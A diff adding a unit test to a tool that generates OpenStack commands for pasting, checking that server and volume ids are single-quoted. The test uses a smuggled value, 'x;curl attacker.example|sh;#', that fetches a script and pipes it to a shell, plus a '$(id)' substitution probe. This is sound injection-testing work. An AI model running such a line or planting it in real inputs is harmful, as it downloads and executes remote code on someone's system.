@@ -32,6 +32,20 @@ function problems({ volume = {}, backup = {}, expect = {} }: Seen) {
   return identityProblems({ ...VOLUME, ...volume }, { ...BACKUP, ...backup }, expect, HOME);
 }
 
+describe('commands to paste', () => {
+  const odd = { server_id: 'x;curl attacker.example|sh;#', server_name: 'db1' };
+
+  it('hold ids as words, so that nothing of them runs', () => {
+    const [wait] = waitsFor({ ...VOLUME, status: 'in-use', attachments: [odd] }, BACKUP);
+    expect(wait?.commands).to.deep.equal([
+      "openstack server stop 'x;curl attacker.example|sh;#'",
+      "openstack server remove volume 'x;curl attacker.example|sh;#' v",
+    ]);
+    const [problem] = identityProblems({ ...VOLUME, id: '$(id)', status: 'error' }, BACKUP, {}, HOME);
+    expect(problem?.remedy).to.match(/--state available '\$\(id\)'$/);
+  });
+});
+
 describe('identityProblems', () => {
   const cases: { [name: string]: [Seen, string[]] } = {
     'disk and backup as they should be': [{}, []],
